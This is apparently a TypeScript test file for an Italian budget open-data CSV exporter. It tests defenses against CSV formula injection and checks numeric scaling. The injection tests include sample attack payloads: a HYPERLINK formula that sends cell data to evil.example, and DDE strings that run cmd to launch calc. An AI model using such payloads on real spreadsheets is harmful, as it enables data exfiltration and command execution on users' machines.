/**
 * Open data a spreadsheet can trust: a text cell that would be taken as a formula (=, +, -, @,
 * tab, CR at its start) is neutralised with a leading apostrophe (OWASP CSV injection,
 * CWE-1236), numbers stay numbers in the numeric columns; every «_valore» column on one scale
 * (a percent indicator's bare 6,8 is 0.068, as its 7,1% is 0.071).
 */
import { importDocument } from "../../../src/core/import";
import { openData, OPEN_DATA_FILES } from "../../../src/core/publish";
import { neutralised, toCsv } from "../../../src/core/publish/csv";

const DOCUMENT = (name: string, actual: string, target: string, unit = "%") =>
  [
    "<b>Missione 011</b>",
    "Competitività e sviluppo delle imprese",
    "<b>Programma 005</b>",
    "Promozione e attuazione di politiche di sviluppo",
    "",
    "VALENZA INDICATORE\tAlgoritmo di calcolo\tCONSUNTIVO AL 31.12.2021\tTARGET 2021\tTARGET 2022\tTARGET 2023\tTipologia indicatore\tunità di misura\tFonte",
    `${name}\tevase / ricevute\t${actual}\t${target}\t${target}\t${target}\tIndicatore di efficacia\t${unit}\tInterna`,
  ].join("\n");

function csvOf(doc: string): string {
  const r = openData(importDocument(doc).plan, { date: "2021-04-30" });
  if (!r.ok) throw new Error(r.reason.en);
  return r.files.find((f) => f.name === OPEN_DATA_FILES.indicators)!.content;
}

/** A CSV line's fields (no quoted commas in these rows but the name, handled by the caller). */
function record(csv: string): Map<string, string> {
  const [head, row] = csv.split("\r\n");
  const names = head.split(",");
  const values: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < row.length; i++) {
    const c = row[i];
    if (quoted) {
      if (c === '"' && row[i + 1] === '"') ((field += '"'), i++);
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") (values.push(field), (field = ""));
    else field += c;
  }
  values.push(field);
  return new Map(names.map((n, i) => [n, values[i]]));
}

describe("CSV injection", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Dettagli")'],
    ["+SUM(1+1)*cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)"],
    ["\tTab iniziale"],
    ["\rRitorno iniziale"],
  ])("an indicator named %j is written as text, with a leading apostrophe", (name) => {
    expect(neutralised(name)).toBe(`'${name}`);
    const csv = toCsv([{ name: "indicatore", description: "", value: (r: string) => r }], [name]);
    const cell = csv.split("\r\n")[1];
    expect(cell.replace(/^"/, "").startsWith("'")).toBe(true);
  });

  it("in the open data: the name neutralised, the numbers numbers", () => {
    const rec = record(
      csvOf(DOCUMENT('=HYPERLINK("http://evil.example","clic")', "-5", "-10", "n."))
    );
    expect(rec.get("indicatore")).toBe(`'=HYPERLINK("http://evil.example","clic")`);
    // a signed number as written stays readable, its number is a number
    expect(rec.get("consuntivo_2021_12_31")).toBe("-5");
    expect(rec.get("consuntivo_2021_12_31_valore")).toBe("-5");
    expect(rec.get("target_2021_valore")).toBe("-10");
  });

  it("ordinary text and signed numbers are left as they are", () => {
    for (const t of ["Pratiche evase", "-15", "+3,5%", "-1.234,5", "", "a=b"])
      expect(neutralised(t)).toBe(t);
  });
});

describe("every «_valore» column on one scale", () => {
  it("a percent indicator's bare number is percentage points: 6,8 → 0.068 beside 7,1% → 0.071", () => {
    const rec = record(csvOf(DOCUMENT("Pratiche evase entro 30 giorni", "6,8", "7,1%")));
    expect(rec.get("consuntivo_2021_12_31_valore")).toBe("0.068");
    expect(rec.get("target_2021_valore")).toBe("0.071");
  });

  it("by its unit alone, too; a count keeps its number", () => {
    expect(record(csvOf(DOCUMENT("Quota online", "98,5", "95"))).get("target_2021_valore")).toBe(
      "0.95"
    );
    expect(
      record(csvOf(DOCUMENT("Imprese assistite", "133", "120", "n."))).get("target_2021_valore")
    ).toBe("120");
  });
});
